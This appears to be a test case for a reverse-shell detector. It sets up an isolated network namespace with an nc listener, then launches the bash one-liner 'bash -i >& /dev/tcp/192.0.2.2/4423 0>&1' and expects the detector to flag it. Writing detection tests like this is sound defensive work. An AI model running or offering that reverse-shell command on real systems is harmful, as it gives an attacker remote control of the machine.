# R23: bash on a connection to another machine
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4423
#   reverse_shell.process_list.0.network_connection_list.0.destination_ip_address: 192.0.2.2

#: prepare
. lib/peers.sh
unshare -n sleep 6000 > /dev/null 2>&1 & fact far $!
await '[ "$(readlink /proc/$far/ns/net)" != "$(readlink /proc/self/ns/net)" ]'
ip link add r23 type veth; ip link set veth0 netns $far
ip addr add 192.0.2.1/24 dev r23; ip link set r23 up
nsenter -t $far -n ip addr add 192.0.2.2/24 dev veth0; nsenter -t $far -n ip link set veth0 up
(hold | nsenter -t $far -n timeout 300 nc -lp 4423) > /dev/null 2>&1 &
await 'nsenter -t $far -n cat /proc/net/tcp /proc/net/tcp6 | grep -q :1147.*:0000.0A'
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/192.0.2.2/4423 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:*'
seen; kill -9 $shell
#: clean
kill $far; ip link del r23 || true
